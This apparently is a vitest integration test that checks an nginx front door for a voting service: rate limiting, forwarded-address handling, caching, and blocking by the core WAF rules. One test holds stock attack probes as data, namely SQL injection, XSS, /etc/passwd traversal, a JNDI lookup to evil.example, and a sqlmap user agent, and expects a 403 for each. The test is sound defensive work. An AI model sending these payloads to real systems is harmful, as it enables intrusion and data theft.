import { subscribe, unsubscribe } from "node:diagnostics_channel";
import type { IncomingMessage } from "node:http";
import { Agent, request } from "node:https";
import { describe, expect, it, onTestFinished } from "vitest";
import { startIngest } from "../../src/runtime/ingest/server.js";
import { tokenIssuer } from "../../src/runtime/keys/tokens.js";
import { startServe } from "../../src/runtime/serve/server.js";
import { openTestElection, openTestEngine } from "../helpers/data/election.js";
import { realNginx, startNginx } from "../helpers/edge/nginx.js";
import { eventually } from "../helpers/temporary.js";

const suite = "the front door of compose/edge, with nginx and the core rules";
const timeoutMs = 180_000;
const here = { host: "127.0.0.1", port: 0 };

interface Ask {
  readonly path: string;
  readonly method?: string;
  readonly headers?: Record<string, string>;
  readonly body?: string;
  /** The last two numbers of the client's own address, 127.0.… */
  readonly from?: string;
}

interface Answer {
  readonly status: number;
  readonly headers: NodeJS.Dict<string | string[]>;
  readonly body: string;
}

/** Ingest and serve over an open election `lunch`, nginx before them, and what reaches them. */
async function start() {
  const engine = await openTestEngine();
  await openTestElection(engine, "lunch", 2);
  const ingest = await startIngest({ ...engine, ...here, trustedProxies: ["127.0.0.1"] });
  onTestFinished(() => ingest.stop());
  const serve = await startServe({ ...engine, ...here, trustedProxies: ["127.0.0.1"] });
  onTestFinished(() => serve.stop());
  const arrived: string[] = [];
  const forwardedFor: unknown[] = [];
  const note = (message: unknown) => {
    const { method, url, headers } = (message as { request: IncomingMessage }).request;
    arrived.push(`${method} ${url}`);
    forwardedFor.push(headers["x-forwarded-for"]);
  };
  subscribe("http.server.request.start", note);
  onTestFinished(() => void unsubscribe("http.server.request.start", note));
  const { port, ca } = await startNginx({
    ingest: new URL(ingest.url).host,
    serve: new URL(serve.url).host,
  });
  const agent = new Agent({ keepAlive: true, ca, maxSockets: 100 });
  onTestFinished(() => agent.destroy());
  const ask = ({ path, method = "GET", headers = {}, body, from = "0.1" }: Ask) =>
    new Promise<Answer>((resolve, reject) => {
      const target = { host: "127.0.0.1", port, agent, path, method, headers };
      const sent = request({ ...target, localAddress: `127.0.${from}` }, (answer) => {
        let text = "";
        answer.setEncoding("utf8").on("data", (chunk) => {
          text += chunk;
          // A stream does not end.
          if (answer.headers["content-type"] === "text/event-stream") sent.destroy();
        });
        const { statusCode: status = 0, headers } = answer;
        answer.on("close", () => resolve({ status, headers, body: text }));
      });
      sent.on("error", reject);
      sent.end(body);
    });
  const secret = await engine.keys.tokenSecret();
  const tokenOf = tokenIssuer({
    ...{ secret, scope: "vote", election: "lunch", expiresInSeconds: 600, nowMs: Date.now() },
  });
  const vote = (voter: string, from: string, more: Record<string, string> = {}, choice = "c0") =>
    ask({
      path: "/v1/elections/lunch/ballots",
      method: "POST",
      from,
      headers: {
        authorization: `Bearer ${tokenOf(voter)}`,
        "content-type": "application/json",
        ...more,
      },
      body: JSON.stringify({ choice }),
    });
  const ingestStatus = async () => (await fetch(`${ingest.url}/statusz`)).json();
  return { ask, vote, arrived, forwardedFor, ingestStatus };
}

describe.runIf(realNginx(suite))(suite, { timeout: timeoutMs }, () => {
  it("stops none of 1,000 honest votes, and passes each of them on", async () => {
    const { vote, arrived, ingestStatus } = await start();
    const client = async (_: unknown, number: number) => {
      for (let sent = 0; sent < 20; sent++) {
        const answer = await vote(`voter-${number}-${sent}@example.org`, `1.${number + 1}`);
        expect(answer.status, answer.body).toBe(202);
        expect(answer.headers["x-cache"]).toBeUndefined();
      }
    };
    await Promise.all(Array.from({ length: 50 }, client));
    const ballots = arrived.filter((one) => one === "POST /v1/elections/lunch/ballots");
    expect(ballots.length).toBe(1_000);
    expect(await ingestStatus()).toMatchObject({ acknowledged: 1_000 });
    // The same ballot again is asked of ingest again.
    expect((await vote("voter-0-0@example.org", "1.1")).status).toBe(202);
    expect(await ingestStatus()).toMatchObject({ acknowledged: 1_001 });
  });

  it("limits an address, whatever it claims to be, and no other one", async () => {
    const { vote } = await start();
    const began = performance.now();
    const answers = await Promise.all(
      Array.from({ length: 400 }, (_, n) =>
        vote(`bot-${n}`, "2.1", { "x-forwarded-for": `192.0.2.${n % 250}` }),
      ),
    );
    const seconds = (performance.now() - began) / 1_000;
    const taken = answers.filter(({ status }) => status === 202).length;
    const refused = answers.filter(({ status }) => status === 429);
    expect(taken + refused.length).toBe(400);
    expect(taken).toBeGreaterThanOrEqual(100);
    // The burst, and the rate.
    expect(taken).toBeLessThanOrEqual(102 + 20 * seconds);
    for (const { headers, body } of refused) {
      expect(headers).toMatchObject({
        "content-type": "application/problem+json",
        "retry-after": "1",
      });
      expect(JSON.parse(body)).toMatchObject({ status: 429, code: "too-many-requests" });
    }
    expect((await vote("honest", "2.2")).status).toBe(202);
  });

  it("stops what the core rules know, before it reaches anybody", async () => {
    const { ask, vote, arrived } = await start();
    const result = "/v1/elections/lunch/result";
    const probes: Ask[] = [
      { path: `${result}?detail=1%27%20OR%20%271%27%3D%271` },
      { path: `${result}?detail=1%20UNION%20SELECT%20password%20FROM%20users--` },
      { path: `${result}?detail=%3Cscript%3Ealert(1)%3C/script%3E` },
      { path: `${result}?detail=../../../../etc/passwd` },
      { path: `${result}?detail=%24%7Bjndi:ldap://evil.example/a%7D` },
      { path: result, headers: { "user-agent": "sqlmap/1.7" } },
      { path: "/?x=%3Cimg%20src=x%20onerror=alert(1)%3E" },
    ];
    const before = arrived.length;
    for (const [at, probe] of probes.entries()) {
      expect([probe.path, (await ask({ ...probe, from: `3.${at + 1}` })).status]).toEqual([
        probe.path,
        403,
      ]);
    }
    expect((await vote("mallory", "3.50", {}, "x' UNION SELECT 1,2,3 FROM users--")).status).toBe(
      403,
    );
    for (const path of [
      "/statusz",
      "/readyz",
      "/v1/elections/lunch/ballots:batch",
      "/v1/admin/elections",
    ]) {
      expect([path, (await ask({ path, from: "3.60" })).status]).toEqual([path, 404]);
    }
    expect(arrived.slice(before)).toEqual([]);
    // What people do ask for passes.
    for (const path of [
      "/",
      "/elections/lunch",
      result,
      `${result}?detail=partitions`,
      "/v1/elections/lunch",
      "/v1/elections/lunch/history",
      "/elections/lunch/result.csv",
    ]) {
      expect([path, (await ask({ path, from: "3.70" })).status]).toEqual([
        path,
        path === "/" ? 302 : 200,
      ]);
    }
    const events = await ask({ path: "/v1/elections/lunch/events", from: "3.80" });
    expect(events.headers["content-type"]).toBe("text/event-stream");
    expect(events.body).not.toBe("");
  });

  it("tells ingest and serve a client's own address, whatever the client claims", async () => {
    const { ask, vote, forwardedFor } = await start();
    const claim = { "x-forwarded-for": "192.0.2.7" };
    const before = forwardedFor.length;
    expect((await vote("voter", "5.1", claim)).status).toBe(202);
    for (const path of [
      "/elections/lunch",
      "/v1/elections/lunch",
      "/v1/elections/lunch/result",
      "/v1/elections/lunch/events",
    ]) {
      expect((await ask({ path, headers: claim, from: "5.1" })).status).toBe(200);
    }
    expect(forwardedFor.slice(before)).toEqual(Array(5).fill("127.0.5.1"));
  });

  it("asks serve once a second for a result, however many read it", async () => {
    const { ask, arrived } = await start();
    const path = "/v1/elections/lunch/result";
    const fetched = () => arrived.filter((one) => one === `GET ${path}`).length;
    const began = performance.now();
    let reads = 0;
    const reader = async (_: unknown, number: number) => {
      while (reads < 600 || fetched() < 3) {
        // All of these are one variant, and anybody can write another one each time.
        const headers = { "accept-encoding": `gzip, x-${number}-${reads}` };
        const answer = await ask({ path, headers, from: `4.${number + 1}` });
        if (answer.status !== 200 && answer.status !== 429) throw new Error(`${answer.status}`);
        if (answer.status === 200) {
          reads++;
          expect(answer.headers["content-encoding"]).toBe("gzip");
        }
      }
    };
    await Promise.all(Array.from({ length: 50 }, reader));
    const seconds = (performance.now() - began) / 1_000;
    console.info(`${reads} reads in ${seconds.toFixed(1)} s: ${fetched()} of them asked serve`);
    expect(fetched()).toBeLessThanOrEqual(seconds + 2);
  });

  it("keeps a page for each language, and one variant for those that refuse a coding", async () => {
    const { ask, arrived } = await start();
    const page = (language: string, coding: string) =>
      ask({
        path: "/elections/lunch",
        headers: { "accept-language": language, "accept-encoding": coding },
        from: "6.1",
      });
    const english = await page("en", "gzip;q=0");
    expect(english.headers["content-encoding"]).toBeUndefined();
    expect(english.body).toContain('<html lang="en"');
    // It is kept for a second, and a busy machine may ask later: then again, and as nobody before.
    let asked = 0;
    await eventually("the page from the cache", async () => {
      await page("en", "gzip;q=0");
      const before = arrived.length;
      const { headers } = await page("en", `x-any-${asked++}`);
      return headers["x-cache"] === "HIT" && arrived.length === before;
    });
    const portuguese = await page("pt", "identity");
    expect(portuguese.body).toContain('<html lang="pt');
  });
});
